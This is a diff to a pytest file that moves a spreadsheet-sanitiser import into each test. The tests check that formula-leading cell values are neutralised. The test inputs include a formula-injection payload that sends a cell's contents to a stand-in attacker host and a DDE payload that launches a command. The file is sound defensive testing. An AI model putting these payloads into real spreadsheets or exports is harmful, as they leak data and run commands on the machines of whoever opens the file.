@@ -11,8 +11,6 @@ import csv
 
 import pytest
 
-from build_tools.core.spreadsheet import safe_cell
-
 from ..reports.conftest import LMS, as_stored, conn, make, put, write_roster  # noqa: F401
 from ..reports.test_cli import site, training  # noqa: F401
 
@@ -22,11 +20,15 @@ ATTACK = '=HYPERLINK("https://attacker.example/?c="&A2,"Open your course")'
 @pytest.mark.parametrize("value", [ATTACK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
                                    "\t=1+1", "\r=1+1"])
 def test_every_formula_start_is_neutralised(value):
+    from build_tools.core.spreadsheet import safe_cell
+
     assert safe_cell(value) == "'" + value
 
 
 @pytest.mark.parametrize("value", ["Ann Lee", "2500", "", "O'Neil", "a=b", 7, None])
 def test_other_cells_are_unchanged(value):
+    from build_tools.core.spreadsheet import safe_cell
+
     assert safe_cell(value) == value
 
 
